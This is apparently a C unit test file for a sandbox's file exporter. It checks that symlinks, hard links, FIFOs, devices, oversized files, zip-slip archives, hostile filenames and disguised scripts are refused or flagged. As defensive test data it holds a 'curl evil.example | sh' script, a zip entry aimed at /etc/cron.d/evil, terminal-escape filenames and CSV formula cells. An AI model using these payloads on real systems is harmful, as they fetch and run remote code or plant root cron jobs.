/* SPDX-License-Identifier: MIT */
/* Unit tests of the safe exporter (launcher/unprivileged/exporter.c) driven
 * directly: a slot directory that stands for what a sandbox left, an export
 * directory, and "around": host files the attacks point at, which must
 * come out untouched. Every test checks the export directory and the
 * manifest, from outside, and that no staging directory is left. Also the
 * content types (launcher/unprivileged/export_sniff.c) and the name checks
 * (launcher/unprivileged/safefs.c). */
/* cmocka needs these before it */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "blob.h"
#include "export_sniff.h"
#include "exporter.h"
#include "safefs.h"
#include "sha256.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define MIB (1024u * 1024u)

static const char csv[] = "city,temp\nOslo,3\nLima,19\n";
static const char csv_sha[] =
    "7c78aa2346ee91f4a1f2c81de837026454c6dff30e53352395c219c2549ab404";
/* A real 1x1 PNG. */
static const uint8_t png[] =
    "\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00\x0d\x49\x48\x44\x52\x00"
    "\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90\x77\x53\xde\x00"
    "\x00\x00\x0c\x49\x44\x41\x54\x78\x9c\x63\xf8\xcf\xc0\x00\x00\x03\x01"
    "\x01\x00\xc9\xfe\x92\xef\x00\x00\x00\x00\x49\x45\x4e\x44\xae\x42\x60"
    "\x82";
static const char png_sha[] =
    "b1ff9c8ea3a780bad09b346c423d2d0e46815926879b18e841d928376a946640";
static const char secret[] = "root:$6$not-for-export\n";

/* The world of one test. */
struct world {
	char top[64];
	char slot[128], dest[128], around[128];
	int slot_fd, dest_fd;
	struct ward_export_rule rule;
	const char *names[8];
	struct ward_export_result res;
	char *manifest;
};

static void path_of(struct world *w, char *buf, size_t len, const char *dir,
		    const char *rel)
{
	snprintf(buf, len, "%s/%s", dir, rel);
}

static void put(const char *path, const void *data, size_t n)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, data, n), (ssize_t)n);
	close(fd);
}

static void put_in(struct world *w, const char *rel, const void *data, size_t n)
{
	char p[512];
	path_of(w, p, sizeof(p), w->slot, rel);
	put(p, data, n);
}

static void mkdir_in(struct world *w, const char *rel)
{
	char p[512];
	path_of(w, p, sizeof(p), w->slot, rel);
	assert_int_equal(mkdir(p, 0755), 0);
}

static int setup(void **state)
{
	struct world *w = calloc(1, sizeof(*w));
	char p[256];

	snprintf(w->top, sizeof(w->top), "/tmp/ward-xtest.XXXXXX");
	assert_non_null(mkdtemp(w->top));
	snprintf(w->slot, sizeof(w->slot), "%s/slot", w->top);
	snprintf(w->dest, sizeof(w->dest), "%s/dest", w->top);
	snprintf(w->around, sizeof(w->around), "%s/around", w->top);
	assert_int_equal(mkdir(w->slot, 0755), 0);
	assert_int_equal(mkdir(w->dest, 0755), 0);
	assert_int_equal(mkdir(w->around, 0755), 0);
	snprintf(p, sizeof(p), "%s/secret", w->around);
	put(p, secret, strlen(secret));
	w->slot_fd = open(w->slot, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	w->dest_fd = open(w->dest, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(w->slot_fd >= 0 && w->dest_fd >= 0);
	w->rule = (struct ward_export_rule){
	    .slot = "output",
	    .max_files = 20,
	    .per_file = 5 * MIB,
	    .total = 40 * MIB,
	    .types = WARD_EXPORT_T_TEXT | WARD_EXPORT_T_PNG,
	    .on_violation = WARD_EXPORT_SKIP,
	};
	*state = w;
	return 0;
}

static int teardown(void **state)
{
	struct world *w = *state;
	ward_err err;
	int top;

	close(w->slot_fd);
	close(w->dest_fd);
	ward_export_result_free(&w->res);
	free(w->manifest);
	/* the tree may hold what the tests made: remove it the safe way */
	top = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_int_equal(ward_rmtree(top, w->top + 5, NULL, &err), 0);
	close(top);
	free(w);
	return 0;
}

static void run(struct world *w, const struct ward_export_hook *hook)
{
	ward_err err = {0};
	size_t len;
	FILE *f;

	ward_export_result_free(&w->res);
	assert_int_equal(
	    ward_export(&w->rule, w->slot_fd, w->dest_fd, hook, &w->res, &err),
	    0);
	free(w->manifest);
	f = open_memstream(&w->manifest, &len);
	ward_export_manifest(f, &w->res);
	fclose(f);
}

static const struct ward_export_entry *entry(struct world *w, const char *rel)
{
	for (size_t i = 0; i < w->res.n; i++)
		if (!strcmp(w->res.entries[i].path, rel))
			return &w->res.entries[i];
	fail_msg("no manifest entry for %s", rel);
	return NULL;
}

static void refused(struct world *w, const char *rel, enum ward_xreason why)
{
	const struct ward_export_entry *e = entry(w, rel);
	assert_int_equal(e->verdict, WARD_XV_REFUSED);
	assert_string_equal(ward_xreason_name(e->reason),
			    ward_xreason_name(why));
}

/* The names in the export directory, sorted and joined by spaces. */
static char *dest_names(struct world *w, const char *sub)
{
	static char out[4096];
	char p[512], *names[256];
	size_t n = 0, o = 0;
	DIR *d;
	struct dirent *e;

	snprintf(p, sizeof(p), "%s%s%s", w->dest, sub ? "/" : "",
		 sub ? sub : "");
	assert_non_null(d = opendir(p));
	while ((e = readdir(d)) && n < 256)
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			names[n++] = strdup(e->d_name);
	closedir(d);
	for (size_t i = 0; i < n; i++)
		for (size_t k = i + 1; k < n; k++)
			if (strcmp(names[k], names[i]) < 0) {
				char *t = names[i];
				names[i] = names[k];
				names[k] = t;
			}
	out[0] = 0;
	for (size_t i = 0; i < n; i++) {
		o += (size_t)snprintf(out + o, sizeof(out) - o, "%s%s",
				      i ? " " : "", names[i]);
		free(names[i]);
	}
	return out;
}

static void sha_of_file(const char *path, char hex[65])
{
	uint8_t buf[65536], d[32];
	struct ward_sha256 h;
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	assert_true(fd >= 0);
	ward_sha256_init(&h);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		ward_sha256_update(&h, buf, (size_t)n);
	close(fd);
	ward_sha256_final(&h, d);
	ward_hex(d, 32, hex);
}

static void entry_sha(const struct ward_export_entry *e, char hex[65])
{
	assert_true(e->has_digest);
	ward_hex(e->sha256, 32, hex);
}

/* The host file the attacks aim at is as it was. */
static void around_intact(struct world *w)
{
	char p[256], hex[65], want[65];
	struct stat st;
	uint8_t d[32];

	snprintf(p, sizeof(p), "%s/secret", w->around);
	assert_int_equal(stat(p, &st), 0);
	assert_int_equal(st.st_size, strlen(secret));
	sha_of_file(p, hex);
	ward_sha256(secret, strlen(secret), d);
	ward_hex(d, 32, want);
	assert_string_equal(hex, want);
}

/* ------------------------------------------------------------ normal run */

static void exports_csv_and_png(void **state)
{
	struct world *w = *state;
	char p[512], hex[65];
	struct stat st;

	put_in(w, "data.csv", csv, strlen(csv));
	put_in(w, "chart.png", png, sizeof(png) - 1);
	mkdir_in(w, "sub");
	put_in(w, "sub/notes.txt", "ok\n", 3);
	mkdir_in(w, "empty");
	run(w, NULL);

	assert_true(w->res.exported);
	assert_int_equal(w->res.files, 3);
	assert_int_equal(w->res.bytes, strlen(csv) + sizeof(png) - 1 + 3);
	/* nothing else: no staging area left, no empty directory */
	assert_string_equal(dest_names(w, NULL), "chart.png data.csv sub");
	assert_string_equal(dest_names(w, "sub"), "notes.txt");
	path_of(w, p, sizeof(p), w->dest, "data.csv");
	sha_of_file(p, hex);
	assert_string_equal(hex, csv_sha);
	entry_sha(entry(w, "data.csv"), hex);
	assert_string_equal(hex, csv_sha);
	path_of(w, p, sizeof(p), w->dest, "chart.png");
	sha_of_file(p, hex);
	assert_string_equal(hex, png_sha);
	assert_int_equal(stat(p, &st), 0);
	assert_true(S_ISREG(st.st_mode) && st.st_nlink == 1);
	assert_int_equal(entry(w, "chart.png")->type, WARD_EXPORT_T_PNG);
	assert_int_equal(entry(w, "sub/notes.txt")->type, WARD_EXPORT_T_TEXT);
	assert_non_null(strstr(w->manifest, "\"path\":\"data.csv\",\"kind\":"
					    "\"file\",\"size\":25,\"sha256\":\""
					    "7c78aa2346ee"));
	assert_int_equal(w->res.status, WARD_XS_COMPLETE);
	assert_non_null(
	    strstr(w->manifest, "\"status\":\"complete\",\"exported\":true"));
}

/* ---------------------------------------------------------------- links */

static void symlink_to_host_file(void **state)
{
	struct world *w = *state;
	char p[512], target[256];

	snprintf(target, sizeof(target), "%s/secret", w->around);
	path_of(w, p, sizeof(p), w->slot, "passwd.csv");
	assert_int_equal(symlink(target, p), 0);
	put_in(w, "data.csv", csv, strlen(csv));
	run(w, NULL);
	refused(w, "passwd.csv", WARD_XR_SYMLINK);
	assert_false(entry(w, "passwd.csv")->has_digest);
	assert_string_equal(dest_names(w, NULL), "data.csv");
	around_intact(w);
}

static void symlink_to_dir_and_dotdot(void **state)
{
	struct world *w = *state;
	char p[512];

	path_of(w, p, sizeof(p), w->slot, "host");
	assert_int_equal(symlink(w->around, p), 0);
	mkdir_in(w, "a");
	mkdir_in(w, "a/b");
	path_of(w, p, sizeof(p), w->slot, "a/b/up");
	assert_int_equal(symlink("../../../around", p), 0);
	path_of(w, p, sizeof(p), w->slot, "a/b/up.csv");
	assert_int_equal(symlink("../../../around/secret", p), 0);
	put_in(w, "a/b/..data.csv", csv, strlen(csv));
	run(w, NULL);
	refused(w, "host", WARD_XR_SYMLINK);
	refused(w, "a/b/up", WARD_XR_SYMLINK);
	refused(w, "a/b/up.csv", WARD_XR_SYMLINK);
	/* a name that starts with two dots is only a name */
	assert_int_equal(entry(w, "a/b/..data.csv")->verdict, WARD_XV_EXPORTED);
	assert_string_equal(dest_names(w, "a/b"), "..data.csv");
	assert_int_equal(w->res.files, 1);
	around_intact(w);
}

static void hard_link_to_host_file(void **state)
{
	struct world *w = *state;
	char p[512], target[256];

	snprintf(target, sizeof(target), "%s/secret", w->around);
	path_of(w, p, sizeof(p), w->slot, "shadow.csv");
	assert_int_equal(link(target, p), 0);
	run(w, NULL);
	refused(w, "shadow.csv", WARD_XR_HARDLINK);
	assert_false(entry(w, "shadow.csv")->has_digest);
	assert_string_equal(dest_names(w, NULL), "");
	assert_false(strstr(w->manifest, "not-for-export"));
	around_intact(w);
}

/* -------------------------------------------------------- special files */

static void on_alarm(int sig)
{
	(void)sig;
	static const char msg[] = "the exporter blocked on a FIFO\n";
	ssize_t n = write(2, msg, sizeof(msg) - 1);
	(void)n;
	_exit(3);
}

static void fifo_is_never_opened(void **state)
{
	struct world *w = *state;
	char p[512];

	path_of(w, p, sizeof(p), w->slot, "results.csv");
	assert_int_equal(mkfifo(p, 0644), 0);
	put_in(w, "data.csv", csv, strlen(csv));
	/* a blocked open would never return: the alarm fails the test */
	signal(SIGALRM, on_alarm);
	alarm(20);
	run(w, NULL);
	alarm(0);
	refused(w, "results.csv", WARD_XR_FIFO);
	assert_string_equal(dest_names(w, NULL), "data.csv");
}

static void device_and_socket(void **state)
{
	struct world *w = *state;
	char p[512];

	if (geteuid() != 0) {
		skip();
		return;
	}
	path_of(w, p, sizeof(p), w->slot, "null.csv");
	assert_int_equal(mknod(p, S_IFCHR | 0666, makedev(1, 3)), 0);
	path_of(w, p, sizeof(p), w->slot, "disk");
	assert_int_equal(mknod(p, S_IFBLK | 0600, makedev(7, 0)), 0);
	put_in(w, "setuid.csv", csv, strlen(csv));
	path_of(w, p, sizeof(p), w->slot, "setuid.csv");
	assert_int_equal(chmod(p, 04755), 0);
	run(w, NULL);
	refused(w, "null.csv", WARD_XR_DEVICE);
	refused(w, "disk", WARD_XR_DEVICE);
	refused(w, "setuid.csv", WARD_XR_SETUID);
	assert_string_equal(dest_names(w, NULL), "");
}

/* ------------------------------------------------------- growing files */

struct grow {
	int calls;
};

/* Called after every chunk: append 64 KiB to the file being copied. */
static void grow_hook(void *arg, int dirfd, const char *name, uint64_t copied)
{
	struct grow *g = arg;
	static uint8_t more[65536];
	int fd = openat(dirfd, name, O_WRONLY | O_APPEND | O_CLOEXEC);

	(void)copied;
	memset(more, 'x', sizeof(more));
	assert_true(fd >= 0);
	assert_int_equal(write(fd, more, sizeof(more)), (ssize_t)sizeof(more));
	close(fd);
	g->calls++;
}

static void file_grows_while_exported(void **state)
{
	struct world *w = *state;
	struct grow g = {0};
	struct ward_export_hook hook = {.after_chunk = grow_hook, .arg = &g};
	uint8_t start[1000];

	memset(start, 'a', sizeof(start));
	put_in(w, "big.csv", start, sizeof(start));
	w->rule.per_file = 1 * MIB;
	run(w, &hook);
	/* it never ends by itself: cut one byte past the cap */
	refused(w, "big.csv", WARD_XR_PER_FILE);
	assert_int_equal(entry(w, "big.csv")->size, 1 * MIB + 1);
	assert_true(g.calls >= 16);
	assert_string_equal(dest_names(w, NULL), "");
	/* skip: the export went on, and published nothing */
	assert_int_equal(w->res.status, WARD_XS_REFUSED);
	assert_false(w->res.exported);
	assert_int_equal(w->res.files, 0);
}

struct writer {
	char path[512];
	volatile int stop;
};

static void *writer_main(void *arg)
{
	struct writer *wr = arg;
	char chunk[4096];
	int fd = open(wr->path, O_WRONLY | O_APPEND | O_CLOEXEC);

	memset(chunk, 'y', sizeof(chunk));
	while (fd >= 0 && !wr->stop)
		if (write(fd, chunk, sizeof(chunk)) < 0)
			break;
	if (fd >= 0)
		close(fd);
	return NULL;
}

/* A real writer racing the copy: whatever the timing, no more than the cap
 * is exported, and what is exported is what the manifest hashed. */
static void file_grows_in_another_thread(void **state)
{
	struct world *w = *state;
	struct writer wr = {0};
	pthread_t t;
	char p[512], hex[65], want[65];

	put_in(w, "race.csv", "a\n", 2);
	path_of(w, wr.path, sizeof(wr.path), w->slot, "race.csv");
	w->rule.per_file = 256 * 1024;
	assert_int_equal(pthread_create(&t, NULL, writer_main, &wr), 0);
	run(w, NULL);
	wr.stop = 1;
	pthread_join(t, NULL);
	const struct ward_export_entry *e = entry(w, "race.csv");
	if (e->verdict == WARD_XV_REFUSED) {
		assert_string_equal(ward_xreason_name(e->reason),
				    "per-file-cap");
		assert_int_equal(e->size, 256 * 1024 + 1);
		assert_string_equal(dest_names(w, NULL), "");
	} else {
		struct stat st;
		path_of(w, p, sizeof(p), w->dest, "race.csv");
		assert_int_equal(stat(p, &st), 0);
		assert_true((uint64_t)st.st_size <= 256 * 1024);
		assert_int_equal((uint64_t)st.st_size, e->size);
		sha_of_file(p, hex);
		entry_sha(e, want);
		assert_string_equal(hex, want);
	}
}

/* ------------------------------------------------------------------ caps */

static void many_small_files(void **state)
{
	struct world *w = *state;
	char rel[64];

	for (int i = 0; i < 10000; i++) {
		snprintf(rel, sizeof(rel), "f%05d.csv", i);
		put_in(w, rel, "1\n", 2);
	}
	run(w, NULL);
	/* skip: 20 published, the rest left out: partial, not exported */
	assert_int_equal(w->res.status, WARD_XS_PARTIAL);
	assert_false(w->res.exported);
	assert_non_null(
	    strstr(w->manifest, "\"status\":\"partial\",\"exported\":false"));
	assert_int_equal(w->res.files, 20);
	assert_int_equal(w->res.nrefused, 10000 - 20);
	assert_int_equal(w->res.examined, 10000);
	assert_int_equal(entry(w, "f00019.csv")->verdict, WARD_XV_EXPORTED);
	refused(w, "f00020.csv", WARD_XR_FILES);
	/* 20 listed as exported, 1000 refused listed, the rest counted */
	assert_int_equal(w->res.n, 20 + WARD_EXPORT_LIST_MAX);
	assert_int_equal(w->res.omitted[WARD_XR_FILES], 10000 - 20 - 1000);
	assert_non_null(
	    strstr(w->manifest, "\"omitted\":{\"files-cap\":8980}"));
	size_t words = 1;
	for (const char *c = dest_names(w, NULL); *c; c++)
		words += *c == ' ';
	assert_int_equal(words, 20);

	/* refuse: the 21st file refuses everything */
	ward_export_result_free(&w->res);
	w->rule.on_violation = WARD_EXPORT_REFUSE;
	close(w->dest_fd);
	char p[512];
	snprintf(p, sizeof(p), "%s/dest2", w->top);
	assert_int_equal(mkdir(p, 0755), 0);
	w->dest_fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	run(w, NULL);
	assert_false(w->res.exported);
	assert_int_equal(w->res.files, 0);
	assert_int_equal(w->res.refusal, WARD_XR_FILES);
	assert_string_equal(w->res.refusal_path, "f00020.csv");
	assert_int_equal(entry(w, "f00000.csv")->verdict, WARD_XV_WITHHELD);
	assert_int_equal(w->res.examined, 21);
	strcpy(w->dest, p);
	assert_string_equal(dest_names(w, NULL), "");
}

static void one_file_over_the_cap(void **state)
{
	struct world *w = *state;
	uint8_t *big = malloc(5 * MIB + 1);

	memset(big, 'z', 5 * MIB + 1);
	big[5 * MIB] = '\n';
	put_in(w, "big.csv", big, 5 * MIB + 1);
	put_in(w, "exact.csv", big, 5 * MIB);
	free(big);
	put_in(w, "data.csv", csv, strlen(csv));
	run(w, NULL);
	refused(w, "big.csv", WARD_XR_PER_FILE);
	assert_int_equal(entry(w, "big.csv")->size, 5 * MIB + 1);
	assert_int_equal(entry(w, "exact.csv")->verdict, WARD_XV_EXPORTED);
	assert_string_equal(dest_names(w, NULL), "data.csv exact.csv");
	assert_int_equal(w->res.bytes, 5 * MIB + strlen(csv));
}

static void total_over_the_cap(void **state)
{
	struct world *w = *state;
	static uint8_t block[100000];
	char rel[32];

	memset(block, 'q', sizeof(block));
	w->rule.max_files = 100;
	w->rule.total = 1 * MIB; /* 10 blocks fit, the 11th does not */
	for (int i = 0; i < 30; i++) {
		snprintf(rel, sizeof(rel), "part%02d.csv", i);
		put_in(w, rel, block, sizeof(block));
	}
	run(w, NULL);
	assert_int_equal(w->res.files, 10);
	assert_int_equal(w->res.bytes, 10 * sizeof(block));
	assert_true(w->res.bytes <= w->rule.total);
	refused(w, "part10.csv", WARD_XR_TOTAL);
	refused(w, "part29.csv", WARD_XR_TOTAL);
	/* read one byte past what the total left: 1 MiB - 1,000,000 + 1 */
	assert_int_equal(entry(w, "part10.csv")->size, MIB - 1000000 + 1);
}

/* The first seed's budget: nine files of 4.9 MiB under a 40 MiB total.
 * Eight fit; the ninth does not. All or nothing (the default): nothing is
 * published and the manifest says so; `skip` publishes the eight and says
 * `partial`. Never `exported: true`. */
static void nine_files_past_the_total(void **state)
{
	struct world *w = *state;
	size_t n = 49 * MIB / 10;
	uint8_t *block = malloc(n);
	char rel[32];

	memset(block, 'r', n);
	block[n - 1] = '\n';
	for (int i = 0; i < 9; i++) {
		snprintf(rel, sizeof(rel), "part%d.csv", i);
		put_in(w, rel, block, n);
	}
	put_in(w, "summary.json", "{}\n", 3);
	free(block);
	w->rule.on_violation = WARD_EXPORT_REFUSE;
	run(w, NULL);
	assert_int_equal(w->res.status, WARD_XS_REFUSED);
	assert_false(w->res.exported);
	assert_int_equal(w->res.refusal, WARD_XR_TOTAL);
	assert_string_equal(w->res.refusal_path, "part8.csv");
	assert_int_equal(entry(w, "part7.csv")->verdict, WARD_XV_WITHHELD);
	assert_int_equal(w->res.files, 0);
	assert_string_equal(dest_names(w, NULL), "");
	assert_non_null(
	    strstr(w->manifest, "\"status\":\"refused\",\"exported\":false"));

	/* skip, explicitly: the eight and the summary, and `partial` */
	char p[512];
	snprintf(p, sizeof(p), "%s/dest2", w->top);
	assert_int_equal(mkdir(p, 0755), 0);
	close(w->dest_fd);
	w->dest_fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	strcpy(w->dest, p);
	w->rule.on_violation = WARD_EXPORT_SKIP;
	run(w, NULL);
	assert_int_equal(w->res.status, WARD_XS_PARTIAL);
	assert_false(w->res.exported);
	assert_int_equal(w->res.files, 9);
	refused(w, "part8.csv", WARD_XR_TOTAL);
	assert_string_equal(dest_names(w, NULL),
			    "part0.csv part1.csv part2.csv part3.csv part4.csv "
			    "part5.csv part6.csv part7.csv summary.json");
	assert_non_null(
	    strstr(w->manifest, "\"status\":\"partial\",\"exported\":false"));
}

/* Each rename of a publication happens with the `.ward-publish-` mark in
 * place: wherever a crash cuts it, the mark is there. */
struct pubwatch {
	struct world *w;
	int renames;
};

static void watch_rename(void *arg, const char *name)
{
	struct pubwatch *pw = arg;
	const char *names = dest_names(pw->w, NULL);

	(void)name;
	pw->renames++;
	assert_non_null(strstr(names, ".ward-publish-"));
	assert_null(strstr(names, ".ward-export-"));
}

static void publication_is_marked(void **state)
{
	struct world *w = *state;
	struct pubwatch pw = {w, 0};
	struct ward_export_hook hook = {.after_rename = watch_rename,
					.arg = &pw};

	put_in(w, "a.csv", csv, strlen(csv));
	put_in(w, "b.csv", csv, strlen(csv));
	mkdir_in(w, "c");
	put_in(w, "c/d.png", png, sizeof(png) - 1);
	run(w, &hook);
	assert_int_equal(pw.renames, 3);
	assert_int_equal(w->res.status, WARD_XS_COMPLETE);
	assert_string_equal(dest_names(w, NULL), "a.csv b.csv c");
}

/* A ward that died while it was publishing leaves `.ward-publish-<hex>`
 * (and part of its result) in the export directory: the next export
 * refuses to add to that. A `.ward-export-` staging area (a ward that died
 * before publishing, or one at work) is none of this export's business. */
static void interrupted_publication(void **state)
{
	struct world *w = *state;
	ward_err err = {0};
	char p[512];

	put_in(w, "data.csv", csv, strlen(csv));
	path_of(w, p, sizeof(p), w->dest, ".ward-export-00112233445566ff");
	assert_int_equal(mkdir(p, 0700), 0);
	run(w, NULL);
	assert_int_equal(w->res.status, WARD_XS_COMPLETE);
	assert_string_equal(dest_names(w, NULL),
			    ".ward-export-00112233445566ff data.csv");

	path_of(w, p, sizeof(p), w->dest, "data.csv");
	assert_int_equal(unlink(p), 0);
	path_of(w, p, sizeof(p), w->dest, ".ward-publish-0011223344556677");
	assert_int_equal(mkdir(p, 0700), 0);
	ward_export_result_free(&w->res);
	assert_int_equal(
	    ward_export(&w->rule, w->slot_fd, w->dest_fd, NULL, &w->res, &err),
	    -1);
	assert_int_equal(w->res.status, WARD_XS_REFUSED);
	assert_false(w->res.exported);
	assert_non_null(strstr(w->res.error, ".ward-publish-0011223344556677"));
	assert_string_equal(dest_names(w, NULL),
			    ".ward-export-00112233445566ff "
			    ".ward-publish-0011223344556677");
}

/* ------------------------------------------------------------ archives */

/* Written by Python's zipfile: the zip slip the issue saw exported, and
 * the same archive with a harmless name (the control). */
static const uint8_t slip_zip[] =
    "\x50\x4b\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x21\x58\xc8\x72"
    "\x00\x0f\x12\x00\x00\x00\x12\x00\x00\x00\x1b\x00\x00\x00\x2e\x2e"
    "\x2f\x2e\x2e\x2f\x2e\x2e\x2f\x2e\x2e\x2f\x65\x74\x63\x2f\x63\x72"
    "\x6f\x6e\x2e\x64\x2f\x65\x76\x69\x6c\x2a\x20\x2a\x20\x2a\x20\x2a"
    "\x20\x2a\x20\x72\x6f\x6f\x74\x20\x69\x64\x0a\x50\x4b\x01\x02\x14"
    "\x03\x14\x00\x00\x00\x00\x00\x00\x00\x21\x58\xc8\x72\x00\x0f\x12"
    "\x00\x00\x00\x12\x00\x00\x00\x1b\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\xa4\x81\x00\x00\x00\x00\x2e\x2e\x2f\x2e\x2e\x2f\x2e"
    "\x2e\x2f\x2e\x2e\x2f\x65\x74\x63\x2f\x63\x72\x6f\x6e\x2e\x64\x2f"
    "\x65\x76\x69\x6c\x50\x4b\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00"
    "\x49\x00\x00\x00\x4b\x00\x00\x00\x00\x00";
static const uint8_t good_zip[] =
    "\x50\x4b\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x21\x58\x7b\x07"
    "\x97\x0a\x08\x00\x00\x00\x08\x00\x00\x00\x11\x00\x00\x00\x72\x65"
    "\x73\x75\x6c\x74\x73\x2f\x74\x61\x62\x6c\x65\x2e\x63\x73\x76\x61"
    "\x2c\x62\x0a\x31\x2c\x32\x0a\x50\x4b\x01\x02\x14\x03\x14\x00\x00"
    "\x00\x00\x00\x00\x00\x21\x58\x7b\x07\x97\x0a\x08\x00\x00\x00\x08"
    "\x00\x00\x00\x11\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xa4"
    "\x81\x00\x00\x00\x00\x72\x65\x73\x75\x6c\x74\x73\x2f\x74\x61\x62"
    "\x6c\x65\x2e\x63\x73\x76\x50\x4b\x05\x06\x00\x00\x00\x00\x01\x00"
    "\x01\x00\x3f\x00\x00\x00\x37\x00\x00\x00\x00\x00";

static void archives_are_inspected(void **state)
{
	struct world *w = *state;

	w->rule.types |= WARD_EXPORT_T_ZIP;
	w->rule.on_violation = WARD_EXPORT_REFUSE;
	put_in(w, "slip.zip", slip_zip, sizeof(slip_zip) - 1);
	run(w, NULL);
	refused(w, "slip.zip", WARD_XR_ARCHIVE_PATH);
	assert_non_null(strstr(entry(w, "slip.zip")->detail,
			       "../../../../etc/cron.d/evil"));
	assert_int_equal(w->res.status, WARD_XS_REFUSED);
	assert_string_equal(dest_names(w, NULL), "");
	assert_non_null(strstr(w->manifest, "\"reason\":\"archive-path\""));

	/* the control: the same archive, a name inside the results */
	char p[512];
	path_of(w, p, sizeof(p), w->slot, "slip.zip");
	assert_int_equal(unlink(p), 0);
	put_in(w, "results.zip", good_zip, sizeof(good_zip) - 1);
	run(w, NULL);
	const struct ward_export_entry *e = entry(w, "results.zip");
	assert_int_equal(e->verdict, WARD_XV_EXPORTED);
	assert_true(e->archive);
	assert_int_equal(e->archive_entries, 1);
	assert_int_equal(e->archive_unpacked, 8);
	assert_int_equal(w->res.status, WARD_XS_COMPLETE);
	assert_string_equal(dest_names(w, NULL), "results.zip");
	assert_non_null(
	    strstr(w->manifest, "\"archive\":{\"entries\":1,\"unpacked\":8}"));

	/* a rule that does not allow zip never opens one: type-not-allowed */
	ward_export_result_free(&w->res);
	path_of(w, p, sizeof(p), w->dest, "results.zip");
	assert_int_equal(unlink(p), 0);
	w->rule.types &= ~WARD_EXPORT_T_ZIP;
	run(w, NULL);
	refused(w, "results.zip", WARD_XR_TYPE);
}

/* CSV cells that start a formula: flagged, exported. */
static void csv_formulas_flagged(void **state)
{
	struct world *w = *state;
	static const char sheet[] =
	    "name,total\n"
	    "alice,-3\n"
	    "bob,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n"
	    "carol,@SUM(A1:A3)\n";

	put_in(w, "sheet.csv", sheet, strlen(sheet));
	put_in(w, "clean.csv", csv, strlen(csv));
	put_in(w, "notes.txt", "=not a sheet\n", 13);
	run(w, NULL);
	assert_int_equal(w->res.status, WARD_XS_COMPLETE);
	const struct ward_export_entry *e = entry(w, "sheet.csv");
	assert_int_equal(e->verdict, WARD_XV_EXPORTED);
	assert_int_equal(e->formulas, 2);
	assert_int_equal(e->formula_row, 3);
	assert_int_equal(e->formula_col, 2);
	assert_int_equal(entry(w, "clean.csv")->formulas, 0);
	assert_int_equal(entry(w, "notes.txt")->formulas, 0);
	assert_int_equal(w->res.flagged, 1);
	assert_non_null(strstr(w->manifest,
			       "\"warnings\":[{\"warning\":\"csv-formula\","
			       "\"cells\":2,\"row\":3,\"column\":2,"));
	assert_non_null(strstr(w->manifest, "\"flagged\":1,"));
	assert_string_equal(dest_names(w, NULL),
			    "clean.csv notes.txt sheet.csv");
}

/* ------------------------------------------------------ names and types */

static void hostile_names(void **state)
{
	struct world *w = *state;
	static const char *const bad[] = {
	    "a\nb.csv",		    /* a newline: one file reads as two lines */
	    "\x1b]0;pwned\x07.csv", /* a terminal escape */
	    "\x1b[31mred.csv",
	    "-rf.csv", /* an option */
	    "evil\xe2\x80\xae"
	    "vsc.csv",	    /* U+202E: displays as evilcsv.csv */
	    "\xff\xfe.csv", /* not UTF-8 */
	    "c1\xc2\x9b"
	    "1m.csv", /* U+009B, the C1 CSI */
	};

	for (size_t i = 0; i < ARRAY_LEN(bad); i++)
		put_in(w, bad[i], csv, strlen(csv));
	mkdir_in(w, "dir\x1b[2J");
	put_in(w, "dir\x1b[2J/inner.csv", csv, strlen(csv));
	put_in(w, "fine name.csv", csv, strlen(csv));
	run(w, NULL);
	for (size_t i = 0; i < ARRAY_LEN(bad); i++)
		refused(w, bad[i], WARD_XR_BAD_NAME);
	refused(w, "dir\x1b[2J", WARD_XR_BAD_NAME);
	assert_string_equal(dest_names(w, NULL), "fine name.csv");
	/* the manifest carries no raw control byte */
	for (const char *c = w->manifest; *c; c++)
		assert_true((unsigned char)*c >= 0x20);
	assert_non_null(strstr(w->manifest, "\"path\":\"a\\nb.csv\""));
	assert_non_null(strstr(w->manifest, "\"path\":\"\\u001b[31mred.csv\""));
	assert_non_null(strstr(w->manifest, "\\udcff\\udcfe.csv"));
}

static void png_that_is_a_script(void **state)
{
	struct world *w = *state;
	static const char script[] = "#!/bin/sh\ncurl evil.example | sh\n";
	uint8_t noise[256];

	for (size_t i = 0; i < sizeof(noise); i++)
		noise[i] = (uint8_t)(i * 37 + 11);
	put_in(w, "chart.png", script, strlen(script));
	put_in(w, "noise.png", noise, sizeof(noise));
	put_in(w, "table.csv", png, sizeof(png) - 1);
	put_in(w, "report.pdf", "%PDF-1.7\n", 9);
	put_in(w, "page.txt", "<!DOCTYPE html><script>x()</script>", 35);
	put_in(w, "real.png", png, sizeof(png) - 1);
	w->names[0] = "*.png";
	w->names[1] = "*.csv";
	w->names[2] = "*.txt";
	w->rule.names = w->names;
	w->rule.nnames = 3;
	put_in(w, "run.sh", script, strlen(script));
	run(w, NULL);
	refused(w, "chart.png", WARD_XR_MISMATCH);
	assert_int_equal(entry(w, "chart.png")->type, WARD_EXPORT_T_TEXT);
	assert_non_null(strstr(entry(w, "chart.png")->detail,
			       "the name says png, the content is text"));
	refused(w, "noise.png", WARD_XR_UNKNOWN);
